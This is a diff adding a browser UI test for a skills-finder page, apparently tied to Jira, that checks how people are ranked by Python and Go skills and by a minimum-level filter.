+def test_finder_ranks_people_with_minimum_levels(ui, jira, tenant, skilled):
+    me = ui(BOB)
+    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder", "acc-carol": "Carol Chen", "acc-dan": "Dan Diaz"})
+    page = me.open("/pages/finder")
+    expect(page.locator("#tree > ul > li")).to_have_count(3)
+    search_skills(page, "Python", "Go")
+    ranked = page.get_by_role("list", name="People for Python, Go")
+    expect(ranked.locator(".person-name")).to_have_text(["Alice Example", "Bob Builder", "Dan Diaz", "Carol Chen"])
+    page.get_by_label("Minimum level of Python").select_option(label="at least Proficient")
+    expect(ranked.locator(".person-name")).to_have_text(["Alice Example", "Dan Diaz", "Bob Builder", "Carol Chen"])
+    expect(ranked.locator(".why")).to_have_text(["covers all 2", "covers 1 of 2, missing Python",
+                                                 "covers 1 of 2, missing Python", "covers 1 of 2, missing Go"])
+    expect(ranked.locator(".levels").nth(2)).to_have_text("Python: Competent (needs Proficient) · Go: Proficient")
+    expect(page.locator(".search-summary")).to_have_text("4 people match; 1 has all of: Python, Go.")
+    me.screenshot("finder-ranked")
